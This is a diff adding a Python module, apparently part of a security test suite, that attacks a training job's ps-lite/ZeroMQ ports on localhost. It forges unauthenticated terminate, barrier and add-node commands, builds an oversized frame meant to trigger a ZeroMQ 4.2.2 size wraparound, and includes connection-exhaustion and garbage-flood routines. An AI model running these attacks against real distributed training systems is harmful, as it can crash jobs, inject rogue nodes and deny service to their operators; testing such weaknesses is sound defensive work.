@@ -1,0 +1,116 @@
+"""Attacks on the ports of a job that trains."""
+
+from __future__ import annotations
+
+import contextlib
+import resource
+import secrets
+import socket
+import threading
+from typing import Sequence
+
+from . import strangers
+
+# Of ps-lite's commands, as its meta.proto has them in a message's fixed part.
+_TERMINATE, _ADD_NODE, _BARRIER, _ACKNOWLEDGE = 1, 2, 3, 4
+_EVERYBODY = 7
+
+
+def _field(number: int, value: bytes | int) -> bytes:
+    """One of a protocol buffer, with a short value."""
+    if isinstance(value, int):
+        return bytes([number << 3, value])
+    return bytes([number << 3 | 2, len(value)]) + value
+
+
+def command(number: int, *more: bytes) -> bytes:
+    """A message's fixed part, with one of ps-lite's commands."""
+    return _field(3, _field(1, number) + b"".join(more)) + _field(4, 1)
+
+
+def _invented_node() -> bytes:
+    """A server of number 8, at an address of the attacker's."""
+    where = _field(3, b"127.0.0.9") + _field(4, 99)
+    return _field(2, _field(1, 0) + _field(2, 8) + where)
+
+
+# A large frame, whose announced size wraps when ZeroMQ 4.2.2 adds it to an address.
+_WRAPPING = b"\x02" + (2**64 - 100).to_bytes(8, "big") + bytes(range(256)) * 40
+
+FORGED = {
+    "wrapping": _WRAPPING,
+    "letters": strangers.frames(64 * b"A", 64 * b"B"),
+    "terminate": strangers.frames(command(_TERMINATE)),
+    "barrier": strangers.frames(command(_BARRIER, _field(3, _EVERYBODY))),
+    "add_node": strangers.frames(command(_ADD_NODE, _invented_node())),
+}
+# What ps-lite drops: nothing has been sent that could be acknowledged.
+HARMLESS = command(_ACKNOWLEDGE)
+# As whom: the scheduler, of which there is one, a worker, and nobody.
+NAMES = (b"ps1", b"ps9", b"stranger")
+
+
+def forge(port: int, what: str, name: bytes) -> bytes:
+    """Says what a process of that name would, and returns what is answered to the name.
+
+    Where nothing is, the port has ended the connection.
+    """
+    own, answer = strangers.greeting(b"NULL"), b""
+    connection = socket.create_connection(("127.0.0.1", port), timeout=strangers.LIMIT)
+    with connection, contextlib.suppress(ConnectionError):
+        connection.sendall(own[: strangers.SIGNATURE_BYTES])
+        strangers.receive(connection, strangers.GREETING_BYTES)
+        connection.sendall(own[strangers.SIGNATURE_BYTES :] + strangers.ready(name))
+        answer = connection.recv(1000)
+        connection.sendall(FORGED[what])
+        with contextlib.suppress(OSError):  # not connected any more
+            connection.shutdown(socket.SHUT_WR)
+        connection.recv(1000)  # until it has read all
+    return answer
+
+
+class HalfOpen:
+    """So many connections to ports, in turn, that say nothing, until `close`; `open` are there."""
+
+    def __init__(self, ports: Sequence[int], count: int) -> None:
+        _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+        self._connections = [socket.socket() for _ in range(count)]
+        self.open = 0
+        for number, connection in enumerate(self._connections):
+            connection.settimeout(strangers.LIMIT)
+            with contextlib.suppress(OSError):
+                connection.connect(("127.0.0.1", ports[number % len(ports)]))
+                self.open += 1
+
+    def close(self) -> None:
+        for connection in self._connections:
+            connection.close()
+
+
+class Flood:
+    """Garbage for every port, over and over, until `end`; `sent` is in bytes."""
+
+    def __init__(self, ports: Sequence[int]) -> None:
+        self.sent = 0
+        self._ended = threading.Event()
+        self._thread = threading.Thread(target=self._run, args=(ports,), name="flood")
+        self._thread.start()
+
+    def end(self) -> None:
+        self._ended.set()
+        self._thread.join()
+
+    def _run(self, ports: Sequence[int]) -> None:
+        own = strangers.greeting(b"CURVE")
+        while not self._ended.is_set():
+            for port in ports:
+                garbage = secrets.token_bytes(1 << 16)
+                for words in (garbage, own + garbage, own + b"\x04\xff" + garbage):
+                    self._say(port, words)
+
+    def _say(self, port: int, words: bytes) -> None:
+        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1.0) as to:
+            to.sendall(words)
+            self.sent += len(words)
+
